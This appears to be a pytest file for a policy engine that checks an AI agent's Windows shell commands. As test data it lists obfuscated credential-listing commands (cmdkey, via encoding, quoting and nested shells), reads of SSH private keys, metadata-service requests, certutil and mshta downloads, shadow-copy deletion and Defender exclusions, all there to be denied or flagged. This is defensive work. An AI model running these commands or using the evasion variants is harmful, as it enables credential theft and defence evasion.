"""What lines of PowerShell and cmd run, and what of that reaches beyond a workspace on Windows."""

from __future__ import annotations

import base64
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.growth import LINEAR, twice_the_length_costs
from worker_core.policy import patterns
from worker_core.policy.behind import name_of
from worker_core.policy.builtin import built_in_rules
from worker_core.policy.file import parse
from worker_core.policy.names import command_names
from worker_core.policy.powershell_lines import MOST_EVENTS, read_powershell
from worker_core.policy.rules import Action, Decision, Policy, Subject
from worker_core.policy.subjects import Reader, subjects_of
from worker_core.policy.words import Word

NO_RM = "[[deny]]\ncommand = 'rm *'\n"
POWERSHELL = ("powershell.exe", "-NoProfile", "-NonInteractive", "-Command")


@pytest.fixture(autouse=True)
def windows(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(patterns, "WINDOWS", True)


def decided(line: str, workspace: Path, *, rules: str = "") -> Decision:
    """What is decided about a line of the shell tool."""
    policy = Policy(rules=parse(rules, file="f"), built_in=built_in_rules(windows=True))
    reader = Reader(workspace, denied=policy.denied_words(str(workspace)))
    subjects = subjects_of("shell", reader.started([*POWERSHELL, line]))
    return policy.decide(subjects, tool="shell", workspace=str(workspace))


def encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


RUNS_CMDKEY = (
    "cmdkey /list", "CMDKEY.EXE /list", "CmdKey.com /list", r"C:\Windows\System32\cmdkey.exe /list", "& cmdkey /list",
    "& 'cmdkey' /list", r'& "C:\x\cmdkey.exe" /list', ". cmdkey /list", "echo x; cmdkey /list", "echo x | cmdkey /list",
    "echo x && cmdkey /list", "echo x\ncmdkey /list", "$x = cmdkey /list", "$x.y[0] += cmdkey /list", "(cmdkey /list)",
    "echo (cmdkey /list)", "echo $(cmdkey /list)", 'echo "$(cmdkey /list)"', "echo @(cmdkey /list)",
    "echo @{a = cmdkey /list}", "& {cmdkey /list}", "&{ cmdkey /list }", "gci | ForEach-Object {cmdkey /list}",
    "1..3 | % { cmdkey /list }", "foreach ($i in 1..3) { cmdkey /list }", "if ($true) { cmdkey /list }",
    "if (cmdkey /list) { }", "while ($true) {cmdkey /list}", "try { x } catch { cmdkey /list }",
    "switch (1) { 1 { cmdkey /list } }", "function f { cmdkey /list }", "function f($a) { cmdkey /list }",
    "Invoke-Command -ScriptBlock { cmdkey /list }", "Start-Job { cmdkey /list }", "return cmdkey /list",
    "cmd`key /list", "c'm'dkey /list", 'c"mdk"ey /list', "Start-Process cmdkey -ArgumentList '/list'",
    "saps -FilePath cmdkey '/list'", "start cmdkey /list", "iex 'cmdkey /list'",
    "Invoke-Expression -Command 'cmdkey /list'", "powershell -c cmdkey /list", "powershell cmdkey /list",
    'pwsh -nop -Command "cmdkey /list"', "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -c 'cmdkey /list'",
    "powershell /c cmdkey /list", f"powershell -EncodedCommand {encoded('cmdkey /list')}",
    f"powershell -e {encoded('cmdkey /list')}", f"pwsh -nop -enc {encoded('echo 1; cmdkey /list')}",
    "cmd /c cmdkey /list", 'cmd.exe /s /c "cmdkey /list"', "cmd /ccmdkey /list", "cmd /c 'echo x & cmdkey /list'",
    "cmd /c 'c^mdkey /list'", "cmd /c 'cmdkey,/list'", 'cmd /c "echo it\'s & cmdkey /list & echo it\'s"',
    "cmd /c 'echo # & cmdkey /list'", "cmd /k cmdkey /list", "cmd /c powershell -c cmdkey /list",
    "bash -c 'cmdkey /list'", 'echo \u201cx"; cmdkey /list; echo "y\u201d', "echo <# ' #> ; cmdkey /list; echo <# ' #>",
    "@'\nit's\n'@; cmdkey /list", "echo a # x\ncmdkey /list", "echo --% ' \ncmdkey /list\necho '",
    "echo 'it''s' ; cmdkey /list", 'echo "a`"" ; cmdkey /list', "echo x > out.txt; cmdkey /list",
    "cmdkey /list 2>$null", "cmdkey /list *>&1", "echo a,b,(cmdkey /list)", "[math]::Max(1, (cmdkey /list))",
    "echo x `\n  | cmdkey /list", "-join (cmdkey /list)", "!(cmdkey /list)", "$a = 1; $b = 2; cmdkey /list",
    "if ($true) { dir } cmdkey /list", "foreach ($i in cmdkey /list) { dir }", "foreach ($x in 1,2) { } cmdkey /list",
    "dir\rcmdkey /list", "dir\r\ncmdkey /list", "@' \nit's\n'@; cmdkey /list; 'x'", "@\u2018\nx\n'@; cmdkey /list",
    "Set-Alias x cmdkey; x /list", "sal -Name x -Value cmdkey", "cmd /c '@cmdkey /list'", "cmd /c call cmdkey /list",
    "cmdkey. /list", "cmdkey @x", "{ dir } ; cmdkey /list", 'echo "a"#b; cmdkey /list',
    "switch (1) { 1 { dir } } cmdkey /l", "cmdkey /list &", "do { cmdkey /list } until ($true)",
    "trap { cmdkey /list }",
)  # fmt: skip

RUNS_NO_CMDKEY = (
    "echo cmdkey", "echo 'cmdkey /list'", "Write-Output cmdkey", "# cmdkey /list", "<# cmdkey /list #> dir",
    "$cmdkey = 1", "'cmdkey /list'", "echo 'x; cmdkey /list'", '"a $b"; dir', "Get-ChildItem cmdkey",
    "if ($cmdkey) { dir }", "@'\ncmdkey /list\n'@", "$x.cmdkey", "git log -- cmdkey", "$a = @{cmdkey = 1}",
    "gci | Where-Object { $_.Name -eq 'cmdkey' }", "gci | % { $_.FullName.ToUpper() }", "1..3 | % { $_ * 2 }",
    "[math]::Max(1, 2)", "$x = 'cmdkey'; $x", 'python -c "print(1)"', "for ($i = 0; $i -lt 3; $i++) { echo $i }",
    "Get-Content a.txt | Select-String 'x' | Sort-Object -Unique", "$env:FOO = 'bar'; npm test", "dir /s",
    "findstr /i x a", "npm run build 2>&1 | Out-File log.txt", "cmd /c dir /s",
    "(Get-Content a.txt).Replace('a', 'b') | Set-Content a.txt", '$s = "x" -replace "a", "b"',
    "try { npm test } catch { exit 1 } finally { echo done }", "Test-Path a.txt",
)  # fmt: skip

CANNOT_BE_TOLD = (
    "& $x", "& $x /list", ". $x", "& (Get-Command x)", "iex $x", "echo x | iex", "iex", "powershell -enc $x",
    "powershell -enc not-base64!", "powershell -enc AAA", "powershell -x 1", "echo 'dir' | powershell -",
    "powershell -c $x", "[Diagnostics.Process]::Start('cmdkey', '/list')", "[scriptblock]::Create('x').Invoke()",
    "[System.IO.File]::ReadAllText('x')", "$p.Start()", "(New-Object -ComObject WScript.Shell).Run('x')",
    "$ExecutionContext.InvokeCommand.InvokeScript('x')", "echo 'x", 'echo "x', "echo $(x", "& { x", "@'\nx",
    "echo <# x", "cmd /c %COMSPEC% /c x", "cmd /c '!x! y'", "Start-Process $x", 'echo @"\n$(x)\n"@', "x }",
    "& gcloud @x", "cmd /c 'if exist x del y'", "cmd /c 'for %i in (a) do x'", "[Environment]::Exit(1)",
    "[Reflection.Assembly]::Load($x)", "pwsh -File $x",
)  # fmt: skip


@pytest.mark.parametrize("line", RUNS_CMDKEY)
def test_a_denied_command_is_found(tmp_path: Path, line: str) -> None:
    found = decided(line, tmp_path, rules='[[deny]]\ncommand = "cmdkey *"\n')
    assert found.action is Action.DENY, found.sentence


@pytest.mark.parametrize("alias", ["ri", "RM", "del", "erase", "rd", "rmdir", "& 'ri'", "unknown ri"])
def test_a_denied_command_of_powershell_is_found_by_its_aliases(tmp_path: Path, alias: str) -> None:
    for line in (f"{alias} x -Recurse", f"ls; {alias} x", f"{alias} $x"):
        found = decided(line, tmp_path, rules='[[deny]]\ncommand = "remove-item *"\n')
        assert found.action is Action.DENY, (line, found.sentence)


def test_what_is_allowed_by_the_name_of_a_command_is_not_by_an_alias(tmp_path: Path) -> None:
    """An alias may be another program elsewhere."""
    rules = '[[ask]]\ncommand = "*"\n[[allow]]\ncommand = "set-content *"\n'
    assert decided("sc x", tmp_path, rules=rules).action is Action.ASK


@pytest.mark.parametrize("line", RUNS_NO_CMDKEY)
def test_what_only_looks_like_it_is_not(tmp_path: Path, line: str) -> None:
    found = decided(line, tmp_path, rules='[[deny]]\ncommand = "cmdkey *"\n')
    assert found.action is Action.ALLOW, found.sentence


@pytest.mark.parametrize("line", CANNOT_BE_TOLD)
def test_what_cannot_be_told_is_asked_about(tmp_path: Path, line: str) -> None:
    assert decided(line, tmp_path).action is Action.ASK


@pytest.mark.parametrize(
    "line",
    [
        r"reg.exe add HKCU\x", "REG add HKCU", "docker.exe run x", "docker.cmd run x", "kubiya-worker.exe purge --yes",
        "sc stop x", "sc.exe stop x", "netsh advfirewall set x", "net user x y /add", "bcdedit /set x",
        "wmic process call create x", "certutil -urlcache -f http://x.example/ y", "vssadmin delete shadows",
        "setx PATH x", r"Set-ItemProperty HKCU:\Software\x -Name y -Value z", r"set-itemproperty 'hklm:\x' y z",
        r"New-Item -Path HKCU:\x", r"Remove-Item Registry::HKEY_CURRENT_USER\x", "Register-ScheduledTask -TaskName x",
        "Start-Process x -Verb RunAs", "start x -verb runas", "Start-Process -FilePath reg -ArgumentList 'add HKCU'",
        "New-Service x y", "Stop-Service x", "Set-ExecutionPolicy Bypass", "Add-MpPreference -ExclusionPath x",
        "rundll32 x.dll,y", "msiexec /i x", "mshta http://x.example/", "wsl rm x",
        "Invoke-Command -ComputerName x { y }", "New-NetFirewallRule -DisplayName x", "cmd /c reg add HKCU",
        "sp 'hklm:/x' y z", "rnp HKCU:\\x y z", "ni HKCU:\\x", "erase HKLM:\\x", "si alias:ls reg",
        "saps x -Verb RunAs", "icm -cn x { y }", "spsv x", "etsn x", "swmi x", "icim x",
        "gci | % { reg add HKCU }", "New-LocalUser x", "schtasks /create /tn x", "runas /user:x y", "shutdown /s",
    ],
)  # fmt: skip
def test_what_reaches_beyond_is_asked_about(tmp_path: Path, line: str) -> None:
    found = decided(line, tmp_path)
    assert found.action is Action.ASK, found.sentence
    assert any("beyond the workspace" in one.rule.why for one in found.asking), found.sentence


@pytest.mark.parametrize(
    "line",
    [
        "ssh-add.exe -l",
        "CMDKEY /list",
        "Export-PfxCertificate x",
        "vaultcmd.exe /list",
        "Get-Secret x",
        "op.cmd read x",
    ],
)
def test_what_reads_a_keychain_is_denied(tmp_path: Path, line: str) -> None:
    assert decided(line, tmp_path).action is Action.DENY


def test_elsewhere_the_commands_of_windows_are_other_programs() -> None:
    named = {one for rule in built_in_rules(windows=False) for one in rule.command}
    assert not named & {"sc *", "net *", "format *"}


def test_switches_are_no_paths_and_paths_are_none(tmp_path: Path) -> None:
    for line in ("dir /s", "findstr /i x f", 'findstr /c:"x y" f', "xcopy a b /e", "cmd /c dir", "tasklist /v /fo:csv"):
        assert decided(line, tmp_path).action is Action.ALLOW, line
    for line in ("dir /etc", "type /etc/hosts", r"type C:\Users\x\y", "dir /out:C:/Users/x", "type ../x", r"type ..\x"):
        found = decided(line, tmp_path)
        assert (found.action, found.finding.subject.kind) == (Action.ASK, "path"), line


@pytest.mark.parametrize(
    "line",
    [
        "gc ~/.ssh/id_rsa", r"gc ~\.ssh\id_rsa", "gc $HOME/.ssh/x", 'gc "$home/.ssh/x"', "gc ~/.ss*/id_rsa",
        "gc '~/.ss?/id_rsa'", 'gc "$env:USERPROFILE/.ssh/x"', "echo x > ~/.ssh/x", "echo x >> ~/.ssh/x",
        "$x = gc ~/.ssh/x", "cd ~; gc .ssh/id_rsa", "Set-Location ~; gc .ssh/id_rsa",
        "sl ~ ; Push-Location .ssh; gc id_rsa", "gc a, ~/.ssh/x", "gci x | % { gc ~/.ssh/id_rsa }",
    ],
)  # fmt: skip
def test_paths_are_found_however_they_are_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: str) -> None:
    (tmp_path / "home" / ".ssh").mkdir(parents=True)
    (tmp_path / "home" / ".ssh" / "id_rsa").touch()
    (tmp_path / "w").mkdir()
    for name in ("HOME", "USERPROFILE"):
        monkeypatch.setenv(name, str(tmp_path / "home"))
    found = decided(line, tmp_path / "w")
    assert found.action is Action.DENY, found.sentence


def test_a_file_is_where_its_backslashes_lead(tmp_path: Path) -> None:
    """Windows takes either slash, whoever asks: a file tool, a server, code."""
    workspace = tmp_path / "w"
    (workspace / "sub").mkdir(parents=True)
    rules = f"[[deny]]\npath = '{tmp_path}/secret/**'\n[[deny]]\npath = 'C:/secret/**'\n"
    policy = Policy(rules=parse(rules, file="f"), built_in=built_in_rules(windows=True))
    reader = Reader(workspace, denied=policy.denied_words(str(workspace)))

    def action(*found: Subject) -> Action:
        return policy.decide(subjects_of("tool", found), tool="tool", workspace=str(workspace)).action

    for path, expected in (
        (r"sub\x", Action.ALLOW), (r"sub\..\x", Action.ALLOW), (r"..\x", Action.ASK), (r"sub\..\..\x", Action.ASK),
        (r"\x", Action.ASK), (r"\\server\share\x", Action.ASK), (r"..\secret\x", Action.DENY),
        (str(tmp_path / "secret" / "x").replace("/", "\\"), Action.DENY),
    ):  # fmt: skip
        assert action(*reader.file(path)) is expected, path
        assert action(*reader.path(path)) is expected, path
    assert action(*reader.path(r"..\secret\x", folder="sub")) is Action.ALLOW, "of the workspace"
    assert action(*reader.path("x", folder=r"..\secret")) is Action.DENY
    for text in (r"read C:\secret\x", r"open(r'C:\secret\x')", r"open('C:\\secret\\x')", r"open('..\\secret\\x')"):
        assert action(*reader.arguments({"code": text})) is Action.DENY, text
    for text in (r"print('a\nb\tc')", r"re.match(r'\d+\.\w+', x)", r"open('sub\\x')"):
        assert action(*reader.arguments({"code": text})) is Action.ALLOW, text


@pytest.mark.parametrize("line", [r"r\m x", r"$'r\x6d' x", r"echo -e 'ls\nrm x' | sh", r"env -S '\_rm\_x'", "'rm' x"])
def test_a_posix_shell_reads_backslashes_as_it_does_elsewhere(tmp_path: Path, line: str) -> None:
    """Git for Windows brings one, and a skill may name it."""
    policy = Policy(rules=parse(NO_RM, file="f"), built_in=built_in_rules(windows=True))
    reader = Reader(tmp_path, denied=policy.denied_words(str(tmp_path)))
    for argv in (["bash.exe", "-c", line], [r"C:\Program Files\Git\bin\sh.exe", "-ec", line]):
        found = policy.decide(subjects_of("shell", reader.started(argv)), tool="shell", workspace=str(tmp_path))
        assert found.action is Action.DENY, found.sentence


def test_a_posix_shell_names_files_of_windows(tmp_path: Path) -> None:
    (tmp_path / "w").mkdir()
    policy = Policy(rules=(), built_in=built_in_rules(windows=True))
    reader = Reader(tmp_path / "w", denied=policy.denied_words(str(tmp_path / "w")))
    for line, expected in (
        (r"cat '..\x'", Action.ASK),
        (r'cat "sub\x"', Action.ALLOW),
        (r"cat a\ b.txt", Action.ALLOW),
    ):
        found = policy.decide(
            subjects_of("shell", reader.started(["bash", "-c", line])), tool="shell", workspace=str(tmp_path / "w")
        )
        assert found.action is expected, found.sentence


def test_hosts_are_found(tmp_path: Path) -> None:
    for line in (
        "iwr http://169.254.169.254/x",
        "(New-Object Net.WebClient).DownloadString('http://169.254.169.254/')",
    ):
        assert decided(line, tmp_path).action is Action.DENY, line


@pytest.mark.parametrize("name", ["reg.exe", "REG.EXE", "reg.cmd", "Reg.Bat", r"C:\Windows\reg.com", "C:/x/reg"])
def test_a_program_is_known_by_its_name(name: str) -> None:
    assert name_of(Word(name)) == "reg"


def test_a_program_whose_name_begins_with_a_digit_is_one() -> None:
    assert command_names("7z x a.7z; 1..3; 1 + 2; 5kb; -3", language="powershell") == ["7z"]


def test_the_names_of_a_line() -> None:
    assert command_names("gci | % { reg add x }; & 'git' log", language="powershell") == ["gci", "reg", "%", "git"]


@pytest.mark.parametrize(
    "line", ["dir;" * (MOST_EVENTS + 5) + "cmdkey", "(" * 60 + "cmdkey" + ")" * 60, "x " * 40_000 + "; cmdkey"]
)
def test_more_than_is_looked_at_never_runs(tmp_path: Path, line: str) -> None:
    assert decided(line, tmp_path, rules='[[allow]]\ncommand = "*"\n').action is not Action.ALLOW


@given(st.text(st.sampled_from("a$({[\"'`@#<>|;&\n.=-*%,:/ \u201c")))
def test_it_never_fails_and_ends(text: str) -> None:
    read_powershell(text)


@pytest.mark.skipif(sys.platform == "win32", reason="processor time comes in steps of 16 ms there")
@pytest.mark.parametrize(
    "piece",
    ["dir; ", "echo 'x' ", "( ) ", "(", "[ ", "<# #> ", "<# ", "$x ", '"a$b" ', "` ", "@'\n", ". ", "a=b ", "x --% y|",
     "@{a=", "'", '"', '"$(', "[a]::b ", ".run( ", "{} ", "if (x) {} "],
)  # fmt: skip
def test_twice_the_line_costs_twice_as_much(piece: str) -> None:
    cost = twice_the_length_costs(lambda text: read_powershell(text), lambda length: piece * length, longest=40_000)
    assert cost < LINEAR
